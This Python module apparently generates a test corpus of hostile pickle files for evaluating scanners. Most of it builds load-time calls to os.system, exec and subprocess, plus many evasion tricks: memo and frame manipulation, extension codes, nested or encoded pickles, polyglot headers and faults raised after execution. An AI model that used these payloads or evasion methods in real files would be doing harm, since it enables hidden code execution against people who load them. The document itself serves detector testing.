"""Hostile pickles: how a call is written, where it stands, and what is around it."""

import pickle
import random
import struct

from assemble import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    FROZENSET,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    STRINGS,
    TUPLE,
    TUPLE1,
    Raw,
    call,
    frame,
    get,
    get_text,
    global_,
    line_string,
    long_bytes,
    named_call,
    proto,
    put,
    put_text,
    short_unicode,
    stack_global,
    value,
)
from gadgets import CODE, COMMAND, SYSTEM, chosen, computed_names, higher_order

ARGUMENTS = value((COMMAND,))
RUN = ARGUMENTS + REDUCE  # calls what is on the stack with the command
BODY = global_('os', 'system') + RUN


def gadget_call(gadget):
    """By a dotted name that only protocol 4 takes, or by GLOBAL."""
    if '.' in gadget.name:
        return proto(4) + stack_global(gadget.module, gadget.name) + value(gadget.arguments) + REDUCE
    return global_(gadget.module, gadget.name) + value(gadget.arguments) + REDUCE


def plain(gadget, text=line_string):
    """Protocol 0: text only."""
    return global_(gadget.module, gadget.name) + value(gadget.arguments, text) + REDUCE


# ---- every dialect in which a stream calls ----


def dialects(gadget):
    """(label, opcodes) of the ways in which loading calls a gadget with its arguments."""
    module, name, arguments, _ = gadget
    pushed = b''.join(value(a) for a in arguments)
    packed = value(arguments)
    yield 'GLOBAL REDUCE', global_(module, name) + packed + REDUCE
    yield 'STACK_GLOBAL REDUCE', proto(4) + stack_global(module, name) + packed + REDUCE
    yield 'INST', MARK + pushed + b'i' + f'{module}\n{name}\n'.encode()
    yield 'OBJ', MARK + global_(module, name) + pushed + OBJ
    yield 'OBJ of STACK_GLOBAL', proto(4) + MARK + stack_global(module, name) + pushed + OBJ
    yield 'POP of the result', global_(module, name) + packed + REDUCE + POP + NONE
    yield 'POP_MARK of the result', MARK + global_(module, name) + packed + REDUCE + POP_MARK + NONE
    yield 'below the top', global_(module, name) + packed + REDUCE + value({'a': 1})
    yield 'INST then POP', MARK + pushed + b'i' + f'{module}\n{name}\n'.encode() + POP + EMPTY_DICT
    yield 'OBJ then POP', MARK + global_(module, name) + pushed + OBJ + POP + EMPTY_LIST
    yield 'callable fetched from the memo', global_(module, name) + put(7) + POP + get(7) + packed + REDUCE
    yield 'callable by DUP', global_(module, name) + DUP + POP + packed + REDUCE
    yield 'arguments from the memo', packed + put(300) + POP + global_(module, name) + get(300) + REDUCE
    yield 'inside a list', EMPTY_LIST + global_(module, name) + packed + REDUCE + APPEND
    yield 'as dict value', EMPTY_DICT + value('key') + global_(module, name) + packed + REDUCE + SETITEM
    yield 'trailing BUILD', global_(module, name) + packed + REDUCE + EMPTY_DICT + BUILD
    yield 'copyreg.__newobj__', global_('builtins', 'list') + POP + global_(module, name) + packed + REDUCE + TUPLE1


NAMESPACE = global_('argparse', 'Namespace') + EMPTY_TUPLE + REDUCE


def with_attribute(name, function):
    """An instance whose attribute `name` is the function."""
    return NAMESPACE + EMPTY_DICT + value(name) + function + SETITEM + BUILD


def made_class(bases, **content):
    names = EMPTY_DICT + b''.join(value(name) + bytes(v) + SETITEM for name, v in content.items())
    return Raw(named_call('builtins', 'type', 'Made', Raw(MARK + bases + TUPLE), Raw(names)))


def hooks():
    """(label, opcodes) of calls that no opcode names: loading makes them on what the stream built."""
    system, execute = global_('os', 'system'), global_('builtins', 'exec')
    partial = named_call('functools', 'partial', Raw(system), COMMAND)
    mapped = named_call('builtins', 'map', Raw(system), [COMMAND])
    yield 'BUILD calls __setstate__', with_attribute('__setstate__', system) + value(COMMAND) + BUILD
    yield 'BUILD calls __setstate__ (exec)', with_attribute('__setstate__', execute) + value(CODE) + BUILD
    yield 'APPEND calls append', with_attribute('append', system) + value(COMMAND) + APPEND
    yield 'APPENDS calls append', with_attribute('append', system) + MARK + value(COMMAND) + APPENDS
    yield (
        'APPENDS calls extend',
        with_attribute('extend', global_('subprocess', 'call')) + MARK + value('touch') + value('canary') + APPENDS,
    )
    yield 'ADDITEMS calls add', with_attribute('add', system) + MARK + value(COMMAND) + ADDITEMS
    yield 'ADDITEMS calls add (exec)', with_attribute('add', execute) + MARK + value(CODE) + ADDITEMS
    setter = made_class(b'', __setitem__=execute)
    yield 'SETITEM calls __setitem__', call(setter) + value(CODE) + EMPTY_DICT + SETITEM
    yield 'SETITEMS calls __setitem__', call(setter) + MARK + value(CODE) + EMPTY_DICT + SETITEMS
    hashed = call(made_class(b'', __hash__=partial))
    yield 'a set calls __hash__', EMPTY_SET + MARK + hashed + ADDITEMS
    yield 'FROZENSET calls __hash__', MARK + hashed + FROZENSET
    yield 'SETITEM calls __hash__', EMPTY_DICT + hashed + NONE + SETITEM
    yield 'SETITEMS calls __hash__', EMPTY_DICT + MARK + hashed + NONE + SETITEMS
    yield 'DICT calls __hash__', MARK + hashed + NONE + b'd'
    slot = made_class(global_('builtins', 'str'), x=named_call('builtins', 'property', None, Raw(execute)))
    yield (
        'BUILD sets a property',
        call(slot, CODE) + NONE + EMPTY_DICT + value('x') + EMPTY_DICT + SETITEM + b'\x86' + BUILD,
    )
    for module, name in (('builtins', 'bytes'), ('builtins', 'tuple'), ('builtins', 'frozenset')):
        yield f'NEWOBJ of {name} of map', global_(module, name) + value((mapped,)) + NEWOBJ
        yield (
            f'NEWOBJ_EX of {name} of map',
            proto(4) + global_(module, name) + value((mapped,)) + EMPTY_DICT + NEWOBJ_EX,
        )
    make = (
        call(global_('functools', 'partial'), Raw(global_('builtins', 'max')), COMMAND)
        + value((Raw(global_('builtins', 'max')), (COMMAND,), {'key': Raw(system)}, None))
        + BUILD
    )
    yield 'NEWOBJ calls __new__', bytes(made_class(b'', __new__=make)) + EMPTY_TUPLE + NEWOBJ
    yield (
        'BUILD of a partial',
        call(global_('functools', 'partial'), Raw(global_('builtins', 'print')))
        + value((Raw(system), (COMMAND,), {}, None))
        + BUILD
        + EMPTY_TUPLE
        + REDUCE,
    )
    yield '__init__ by REDUCE', call(made_class(b'', __init__=partial))
    yield '__init__ by OBJ', MARK + bytes(made_class(b'', __init__=partial)) + OBJ
    yield '__del__', call(made_class(b'', __del__=partial)) + POP + NONE
    yield (
        '__getattr__ of a metaclass',
        call(made_class(b'', __setstate__=named_call('builtins', 'staticmethod', Raw(system))))
        + value(COMMAND)
        + BUILD,
    )
    yield (
        '__eq__ by equal hashes',
        EMPTY_DICT
        + MARK
        + call(
            made_class(
                b'',
                __hash__=named_call('functools', 'partial', Raw(global_('builtins', 'int')), 1),
                __eq__=named_call('functools', 'partial', Raw(execute), CODE, {}),
            )
        )
        + NONE
        + value(1)
        + NONE
        + SETITEMS,
    )
    yield 'SETITEM into os.environ', global_('os', 'environ') + value('CANARY') + value('1') + SETITEM + POP + BODY
    yield (
        'SETITEM into sys.modules',
        global_('sys', 'modules')
        + value('json')
        + named_call('importlib', 'import_module', 'os')
        + SETITEM
        + POP
        + global_('json', 'system')
        + RUN,
    )
    yield (
        'BUILD of a module',
        named_call('importlib', 'import_module', 'json')
        + value({'dumps': Raw(system)})
        + BUILD
        + POP
        + global_('json', 'dumps')
        + RUN,
    )
    yield 'BUILD of a class', global_('argparse', 'Namespace') + value({'__setstate__': 1}) + POP + POP + BODY
    yield 'import runs the module', global_('corpus_canary', 'anything')
    yield 'import runs the module, POP', global_('corpus_canary', 'anything') + POP + NONE
    yield 'import by STACK_GLOBAL', proto(4) + stack_global('corpus_canary', 'anything')
    yield 'import by INST', MARK + b'icorpus_canary\nAnything\n'
    yield 'import of a submodule', global_('corpus_package.inner', 'anything')
    yield 'import before a missing name', global_('corpus_canary', 'missing')


# ---- the names ----


def memo_tricks():
    """(label, opcodes): who follows the memo wrongly reads other names than the Unpickler."""
    os_, system, json_, dumps = (short_unicode(t) for t in ('os', 'system', 'json', 'dumps'))
    head = proto(4)
    yield (
        'names from the memo',
        head + os_ + put(0) + system + put(1) + POP + POP + get(0) + get(1) + STACK_GLOBAL + RUN,
    )
    yield (
        'a number is put twice',
        head + json_ + put(0) + POP + os_ + put(0) + POP + get(0) + system + STACK_GLOBAL + RUN,
    )
    yield (
        'MEMOIZE counts entries',
        head
        + json_
        + put(5)
        + POP
        + os_
        + MEMOIZE
        + POP
        + system
        + MEMOIZE
        + POP
        + get(1)
        + get(2)
        + STACK_GLOBAL
        + RUN,
    )
    yield 'MEMOIZE over PUT', head + json_ + MEMOIZE + POP + os_ + put(0) + POP + get(0) + system + STACK_GLOBAL + RUN
    yield 'text PUT, binary GET', head + os_ + put_text(3) + POP + get(3) + system + STACK_GLOBAL + RUN
    yield 'text GET', head + os_ + put(3) + POP + get_text(3) + system + STACK_GLOBAL + RUN
    yield 'a large number', head + os_ + put(70000) + POP + get(70000) + system + STACK_GLOBAL + RUN
    yield 'DUP of a name', head + short_unicode('os') + DUP + POP + system + STACK_GLOBAL + RUN
    yield 'names through a list', head + os_ + system + MARK + json_ + dumps + POP_MARK + STACK_GLOBAL + RUN
    yield 'names behind popped ones', head + os_ + json_ + POP + system + dumps + POP + STACK_GLOBAL + RUN
    yield 'names behind a mark', head + os_ + MARK + POP + system + STACK_GLOBAL + RUN
    yield 'PROTO between the names', head + os_ + proto(2) + system + STACK_GLOBAL + RUN
    yield 'FRAME between the names', head + os_ + frame(system + STACK_GLOBAL + RUN)
    yield 'MEMOIZE between the names', head + os_ + MEMOIZE + system + MEMOIZE + STACK_GLOBAL + MEMOIZE + RUN
    yield (
        'a memo entry of a frozenset',
        head + MARK + json_ + FROZENSET + MEMOIZE + POP + os_ + MEMOIZE + POP + get(1) + system + STACK_GLOBAL + RUN,
    )
    yield 'numbers with zeros', head + os_ + b'p007\n' + POP + b'g7\n' + system + STACK_GLOBAL + RUN
    yield 'number with a plus', head + os_ + b'p+7\n' + POP + b'g 7\n' + system + STACK_GLOBAL + RUN
    yield 'number with underscore', head + os_ + b'p1_0\n' + POP + b'g10\n' + system + STACK_GLOBAL + RUN
    yield (
        'the callable is replaced',
        global_('json', 'dumps') + put(0) + POP + global_('os', 'system') + put(0) + POP + get(0) + RUN,
    )
    yield (
        'the arguments are replaced',
        value(('true',)) + put(0) + POP + ARGUMENTS + put(0) + POP + global_('os', 'system') + get(0) + REDUCE,
    )
    yield (
        'the argument list grows',
        global_('subprocess', 'call')
        + MARK
        + EMPTY_LIST
        + put(0)
        + value('touch')
        + APPEND
        + TUPLE
        + get(0)
        + value('canary')
        + APPEND
        + POP
        + REDUCE,
    )


def odd_names():
    """(label, opcodes): other spellings of the same function."""
    for label, text in STRINGS.items():
        yield f'names as {label}', proto(4) + text('os') + text('system') + STACK_GLOBAL + RUN
        yield f'argument as {label}', global_('os', 'system') + text(COMMAND) + TUPLE1 + REDUCE
    for first, second in (('SHORT_BINUNICODE', 'BINUNICODE8'), ('UNICODE', 'STRING'), ('BINSTRING', 'UNICODE escapes')):
        yield (
            f'names as {first} and {second}',
            proto(4) + STRINGS[first]('os') + STRINGS[second]('system') + STACK_GLOBAL + RUN,
        )
    for module in ('posix', 'os', 'shutil.os', 'subprocess.os', 'os.path'):
        yield f'system of {module}', proto(4) + stack_global(module, 'system') + RUN
    for module, name in (
        ('shutil', 'os.system'),
        ('json', 'codecs.builtins.exec'),
        ('logging', 'os.system'),
        ('random', '_os.system'),
        ('pathlib', 'os.system'),
        ('tempfile', '_os.system'),
        ('glob', 'os.system'),
        ('zipfile', 'shutil.os.system'),
        ('collections', '_sys.modules'),
        ('copyreg', 'sys.modules'),
        ('ssl', 'os.system'),
        ('threading', '_os.system'),
        ('inspect', 'os.system'),
        ('platform', 'os.system'),
        ('uuid', 'os.system'),
        ('dis', 'sys.modules'),
        ('dataclasses', 'sys.modules'),
        ('datetime', 'sys.modules'),
        ('os', 'sys.modules'),
        ('ast', 'sys.modules'),
        ('email.utils', 'os.system'),
        ('http.server', 'os.system'),
        ('ctypes.util', 'os.system'),
        ('distutils.core', 'os.system'),
        ('unittest.mock', 'asyncio.os.system'),
        ('concurrent.futures.process', 'os.system'),
        ('numpy', 'os.system'),
    ):
        follow = RUN if 'modules' not in name else b''
        if name.endswith('modules'):
            body = call(named_call_dotted(module, name + '.get'), 'os')
            yield (
                f'dotted {module}:{name}',
                proto(4) + call(named_call_on('builtins', 'getattr', body, 'system'), COMMAND),
            )
        else:
            yield f'dotted {module}:{name}', proto(4) + stack_global(module, name) + follow
    for module, name, arguments in (
        ('__builtin__', 'eval', (CODE,)),
        ('__builtin__', 'open', ('canary', 'w')),
        ('__builtin__', 'execfile', ('x',)),
        ('commands', 'getoutput', (COMMAND,)),
        ('commands', 'getstatusoutput', (COMMAND,)),
        ('urllib', 'urlretrieve', ('file:///etc/hostname', 'canary')),
        ('anydbm', 'open', ('canary', 'c')),
        ('dumbdbm', 'open', ('canary', 'c')),
        ('__builtin__', '__import__', ('corpus_canary',)),
        ('cPickle', 'loads', (named_call('os', 'system', COMMAND) + STOP,)),
    ):
        yield f'Python 2 name {module}.{name}', proto(2) + global_(module, name) + value(arguments) + REDUCE
        yield f'Python 2 name {module}.{name}, protocol 0', global_(module, name) + value(arguments) + REDUCE
    yield (
        'Python 2 map',
        named_call(
            'builtins', 'list', Raw(proto(2) + named_call('itertools', 'imap', Raw(global_('os', 'system')), [COMMAND]))
        ),
    )
    yield 'fullwidth letters do not count', global_('os', 'system') + POP + BODY
    yield 'GLOBAL without a protocol, dotted module', global_('os.path', '__name__') + POP + BODY
    yield 'argument in UTF-8', global_('os', 'system') + value((COMMAND + ' # naïve ☃ ‮',)) + REDUCE


def named_call_dotted(module, name):
    return Raw(stack_global(module, name))


def named_call_on(module, name, *arguments):
    return named_call(module, name, *arguments)


def extensions():
    """(label, opcodes): the stream registers a code for os.system, then names only the code."""
    for code, opcode in (
        (7, b'\x82\x07'),
        (300, b'\x83' + struct.pack('<H', 300)),
        (70000, b'\x84' + struct.pack('<i', 70000)),
    ):
        register = named_call('copyreg', 'add_extension', 'os', 'system', code) + POP
        yield f'add_extension {code}', proto(2) + register + opcode + RUN
        table = global_('copyreg', '_inverted_registry') + value(code) + value(('os', 'system')) + SETITEM + POP
        yield f'_inverted_registry {code}', proto(2) + table + opcode + RUN
        cache = global_('copyreg', '_extension_cache') + value(code) + global_('os', 'system') + SETITEM + POP
        yield f'_extension_cache {code}', proto(2) + cache + opcode + RUN
        yield (
            f'Python 2 copy_reg {code}',
            proto(2) + named_call('copy_reg', 'add_extension', 'os', 'system', code) + POP + opcode + RUN,
        )


def nested():
    """(label, opcodes): the payload is a pickle in a bytes object that something loads."""
    inner = BODY + STOP
    inner2 = proto(4) + frame(stack_global('os', 'system') + RUN + STOP)
    file = named_call('io', 'BytesIO', inner)
    for label, payload in (('0', inner), ('4', inner2)):
        yield f'pickle.loads {label}', named_call('pickle', 'loads', payload)
        yield f'_pickle.loads {label}', named_call('_pickle', 'loads', payload)
        yield f'pickle._loads {label}', named_call('pickle', '_loads', payload)
        yield f'dill.loads {label}', named_call('dill', 'loads', payload)
        yield f'dill._dill.loads {label}', named_call('dill._dill', 'loads', payload)
        yield (
            f'ForkingPickler.loads {label}',
            proto(4) + stack_global('multiprocessing.reduction', 'ForkingPickler.loads') + value((payload,)) + REDUCE,
        )
        yield f'cloudpickle.loads {label}', named_call('cloudpickle', 'loads', payload)
        yield f'twice {label}', named_call('pickle', 'loads', named_call('pickle', 'loads', payload) + STOP)
    yield 'pickle.load of BytesIO', named_call('pickle', 'load', file)
    yield 'joblib.load of BytesIO', named_call('joblib', 'load', file)
    yield (
        'Unpickler.load',
        proto(4) + call(stack_global('pickle', '_Unpickler.load'), named_call('pickle', '_Unpickler', file)),
    )
    yield 'numpy.load of BytesIO', named_call('numpy.lib._npyio_impl', '_load_from_filelike', file)
    yield 'pandas.read_pickle of BytesIO', named_call('pandas', 'read_pickle', file)
    yield (
        'zlib inside',
        named_call('pickle', 'loads', named_call('zlib', 'decompress', __import__('zlib').compress(inner))),
    )
    yield (
        'base64 inside',
        named_call(
            'pickle', 'loads', named_call('base64', 'b64decode', __import__('base64').b64encode(inner).decode())
        ),
    )
    yield 'codecs inside', named_call('pickle', 'loads', named_call('codecs', 'decode', inner.hex().encode(), 'hex'))


# ---- protocols, frames, faults ----


def framed():
    """(label, stream): what is around the opcodes; whole streams with STOP."""
    body4 = stack_global('os', 'system') + RUN
    for number in range(6):
        yield f'PROTO {number}', proto(number) + BODY + STOP
        yield f'PROTO {number}, opcodes of 4', proto(number) + body4 + STOP
    yield 'PROTO twice', proto(2) + proto(5) + body4 + STOP
    yield 'PROTO late', EMPTY_LIST + POP + body4 + proto(4) + STOP
    yield 'PROTO lowered', proto(5) + body4 + proto(0) + STOP
    for number in (2, 4, 5):
        yield f'one frame, protocol {number}', proto(number) + frame(body4 + STOP)
    for extra in (0, 1, 3):
        yield f'frame that claims {extra} fewer bytes', proto(4) + frame(body4 + STOP, len(body4 + STOP) - extra)
    yield (
        'two frames',
        proto(4) + frame(short_unicode('os') + short_unicode('system')) + frame(STACK_GLOBAL + RUN + STOP),
    )
    yield 'empty frame', proto(4) + frame(b'') + frame(body4 + STOP)
    yield 'frame in a frame', proto(4) + frame(frame(body4 + STOP))
    yield 'frame behind the opcodes', proto(4) + body4 + frame(STOP)
    yield 'frame without PROTO', frame(body4 + STOP)
    yield (
        'frame of the first part',
        proto(4) + frame(short_unicode('os')) + short_unicode('system') + STACK_GLOBAL + RUN + STOP,
    )
    yield 'junk behind STOP in the frame', proto(4) + frame(body4 + STOP + b'junk')
    yield (
        'many frames',
        proto(4)
        + b''.join(
            frame(part)
            for part in (short_unicode('os'), short_unicode('system'), STACK_GLOBAL, ARGUMENTS, REDUCE, STOP)
        ),
    )
    yield 'NOPs before', proto(4) + (NONE + POP) * 500 + body4 + STOP
    yield 'MARKs before', (MARK + POP_MARK) * 50 + BODY + STOP
    yield 'large bytes before', proto(4) + long_bytes(bytes(100_000)) + POP + body4 + STOP
    yield 'left on the stack', NONE * 20 + BODY + STOP
    yield 'left marks', MARK * 3 + BODY + STOP
    for size in (1, 4, 16, 100):
        yield from straddles(size)


def straddles(tail):
    """An argument across the end of a frame: loaders read other bytes, so only some run the payload."""
    payload = stack_global('os', 'system') + RUN + STOP
    benign = NONE + STOP
    for inside in (1, 2, 7):
        for body, follow, label in (
            (benign, payload, 'payload for those who skip'),
            (payload, benign, 'payload for those who go on'),
        ):
            # A bytes object of inside + tail bytes, of which only the first `inside` lie in the frame.
            length = inside + tail
            head = b'B' + struct.pack('<I', length) + b'A' * inside
            yield (
                f'{label}: {inside} of {length}',
                proto(4) + frame(head) + b'B' * tail + POP + body.ljust(inside - 1, b'N') + follow,
            )
            yield (
                f'{label}, padded: {inside} of {length}',
                proto(4) + frame(head) + b'B' * tail + body + b'N' * max(0, inside - len(body)) + follow,
            )
    # The same with a line: GLOBAL's module ends behind the frame.
    yield f'name across a frame {tail}', proto(4) + frame(b'co', 2) + b's\nsystem\n' + RUN + STOP
    yield (
        f'name across a frame, skipped {tail}',
        proto(4) + frame(b'cjson.' + b'a' * tail) + b'os\nsystem\n' + RUN + STOP,
    )


def faults():
    """(label, stream): the payload runs, then loading fails."""
    ends = {
        'nothing': b'',
        'unknown opcode': b'\xff',
        'newline': b'\n',
        'empty stack': POP + POP + POP,
        'missing memo entry': get(99),
        'STOP on an empty stack': POP + STOP,
        'truncated string': b'X\x10\0\0\0ab',
        'negative length': b'T\xff\xff\xff\xff',
        'bad UTF-8': b'X\x02\0\0\0\xff\xfe.',
        'bad integer': b'Ix\n.',
        'bad float': b'Fx\n.',
        'bad quotes': b'Sab\n.',
        'unhashable key': EMPTY_DICT + EMPTY_LIST + NONE + SETITEM + STOP,
        'call of a number': value(1) + EMPTY_TUPLE + REDUCE + STOP,
        'missing module': global_('no_such_module', 'x') + STOP,
        'missing attribute': global_('json', 'no_such_name') + STOP,
        'persistent id': b'Pid\n.',
        'binary persistent id': NONE + b'Q' + STOP,
        'next buffer': b'\x97.',
        'extension code': b'\x82\x2a.',
        'extension code 0': b'\x82\x00.',
        'too high protocol': b'\x80\xff.',
        'frame beyond the end': b'\x95' + struct.pack('<Q', 1 << 40) + STOP,
        'mark without items': b't.',
        'memory': b'\x8e' + struct.pack('<Q', 1 << 62) + STOP,
        'odd items': EMPTY_DICT + MARK + NONE + SETITEMS + STOP,
        'state of a number': value(1) + value({'a': 1}) + BUILD + STOP,
        'append to a number': value(1) + NONE + APPEND + STOP,
        'NEWOBJ of a function': global_('json', 'dumps') + EMPTY_TUPLE + NEWOBJ + STOP,
        'tuple of nothing': POP + TUPLE1 + STOP,
        'text for bytes names': value(1) + value(2) + STACK_GLOBAL + STOP,
    }
    for label, end in ends.items():
        yield f'then {label}', BODY + end
        yield f'result dropped, then {label}', proto(4) + stack_global('os', 'system') + RUN + POP + end
        yield f'in a list, then {label}', proto(2) + EMPTY_LIST + MARK + BODY + value('more') + end


def rows():
    """(label, stream): several pickles, or other bytes, in one file."""
    hostile = BODY + STOP
    data = pickle.dumps({'a': [1, 2, 3]}, 4)
    for protocol in range(6):
        yield f'behind a pickle of protocol {protocol}', pickle.dumps([1, 'a', None], protocol) + hostile
    yield 'third of three', data + data + hostile
    yield 'between pickles', data + hostile + data
    yield 'before a pickle', hostile + data
    yield 'before text', hostile + b'any text behind\n' * 10
    yield 'before zeros', hostile + bytes(5000)
    yield 'before a broken pickle', hostile + b'\x80\x04\x95\xff'
    yield 'before PNG', hostile + b'\x89PNG\r\n\x1a\n'
    yield 'behind 50 pickles', pickle.dumps(0) * 50 + hostile
    yield 'one in every pickle', hostile * 3


def polyglots():
    """(label, stream): pickles that begin like a file of another kind."""
    yield 'MZ', b'MZ\x90' + POP + BODY + STOP
    yield 'GIF', b'GIF89a\0\0\0' + POP + BODY + STOP
    yield 'GIF left', b'GIF89a\x01\0\x01' + BODY + STOP
    yield 'KDMV', b'KDMV\x01' + POP + POP + BODY + STOP
    yield 'CWS', b'CWS' + bytes(86) + POP + BODY + STOP
    yield 'JSON', b']}' + POP + POP + BODY + STOP
    yield 'shell', b'(' + BODY + STOP
    yield 'RIFF', b"S'IFF'\n" + POP + BODY + STOP
    yield 'tar', proto(4) + b'B' + struct.pack('<I', 505) + bytes(250) + b'ustar\x0000' + bytes(247) + POP + BODY + STOP
    yield 'text', b'V# A text file\n0' + BODY + STOP
    yield 'int line', b'I2026\n0' + BODY + STOP
    yield 'long line', b'L99999999999999999999L\n0' + BODY + STOP
    yield 'float line', b'F3.14\n0' + BODY + STOP
    yield 'ends like a zip', BODY + STOP + b'PK\x05\x06' + bytes(18)
    yield 'looks like base64', b'VQUJDREVG\n0' + BODY + STOP
    yield 'numpy magic behind', BODY + STOP + b'\x93NUMPY'
    yield 'bitmap', b'BM\x02\0\0' + bytes(589) + POP + BODY + STOP


def numbers():
    """(label, opcodes): a number that not every reader takes for the same picks the function from a list."""
    ways = {
        'I010': b'I010\n',
        'I0x1': b'I0x1\n',
        'I01': b'I01\n',
        'I00': b'I00\n',
        'L1L': b'L1L\n',
        'L1': b'L1\n',
        'I+1': b'I+1\n',
        'I with blanks': b'I 1\n',
        'LONG1': b'\x8a\x01\x01',
        'LONG1 empty': b'\x8a\x00',
        'LONG4': b'\x8b\x01\0\0\0\x01',
        'BININT': b'J\x01\0\0\0',
        'negative BININT': b'J\xff\xff\xff\xff',
        'BININT2': b'M\x01\0',
        'NEWTRUE': b'\x88',
    }
    names = value(['dumps'] * 8 + ['system'] + ['dumps']), value(['system'] * 10)
    for label, opcodes in ways.items():
        for i, listed in enumerate(names):
            picked = named_call('operator', 'getitem', Raw(listed), Raw(opcodes))
            yield f'{label} {i}', proto(4) + short_unicode('os') + picked + STACK_GLOBAL + RUN


# ---- all of them ----


def mutations(streams, count):
    """(label, stream): seeded damage; ground truth keeps those that still run."""
    chooser = random.Random(20260)
    for i in range(count):
        stream = bytearray(chooser.choice(streams))
        kind = chooser.choice(['flip', 'byte', 'insert', 'delete', 'cut', 'splice'])
        at = chooser.randrange(len(stream))
        if kind == 'flip':
            stream[at] ^= 1 << chooser.randrange(8)
        elif kind == 'byte':
            stream[at] = chooser.randrange(256)
        elif kind == 'insert':
            stream[at:at] = bytes(chooser.randrange(256) for _ in range(chooser.randrange(1, 4)))
        elif kind == 'delete':
            del stream[at : at + chooser.randrange(1, 4)]
        elif kind == 'cut':
            del stream[at:]
        else:
            other = chooser.choice(streams)
            stream[at:] = other[chooser.randrange(len(other)) :]
        if stream:
            yield f'{kind} {i}', bytes(stream)


def samples():
    """(kind, label, stream, gadget): gadget is the callable that runs, or '' where it is of no list's business."""
    made = []

    def add(kind, label, stream, gadget='os.system'):
        made.append((kind, label, stream, gadget))

    everything = chosen()
    for gadget in everything:
        known = gadget.label if gadget.executes else ''
        add('gadget', gadget.label, gadget_call(gadget) + STOP, known)
        if '.' not in gadget.name:
            add(
                'gadget, protocol 4',
                gadget.label,
                proto(4) + frame(stack_global(gadget.module, gadget.name) + value(gadget.arguments) + REDUCE + STOP),
                known,
            )
            add(
                'gadget, INST',
                gadget.label,
                MARK
                + b''.join(value(a) for a in gadget.arguments)
                + f'i{gadget.module}\n{gadget.name}\n'.encode()
                + STOP,
                known,
            )
    for label, opcodes in higher_order():
        add('higher order', label, proto(4) + opcodes + STOP, '')
        add('higher order, dropped', label, proto(4) + opcodes + POP + NONE + STOP, '')
    for label, opcodes in computed_names():
        add('computed name', label, proto(4) + opcodes + STOP, '')
    for gadget in [SYSTEM, *everything[3:40:4]]:
        if '.' not in gadget.name:
            for label, opcodes in dialects(gadget):
                add('dialect', f'{label} of {gadget.label}', opcodes + STOP, gadget.label if gadget.executes else '')
    groups = {
        'hook': (hooks, ''),
        'memo': (memo_tricks, 'os.system'),
        'name': (odd_names, ''),
        'extension code': (extensions, ''),
        'nested pickle': (nested, ''),
        'number': (numbers, ''),
    }
    for kind, (group, gadget) in groups.items():
        for label, opcodes in group():
            add(kind, label, bytes(opcodes) + STOP, gadget)
    for label, opcodes in hooks():
        add('hook, protocol 4', label, proto(4) + frame(bytes(opcodes) + STOP), '')
    for label, opcodes in odd_names():
        add('name, then fault', label, bytes(opcodes) + b'\xff', '')
    for kind, group in {'frame': framed, 'fault': faults, 'row': rows, 'polyglot': polyglots}.items():
        for label, stream in group():
            add(kind, label, stream)
    base = [stream for kind, _, stream, _ in made if kind in ('dialect', 'memo', 'frame', 'hook')]
    for label, stream in mutations(base, 500):
        add('mutation', label, stream, '')
    return made
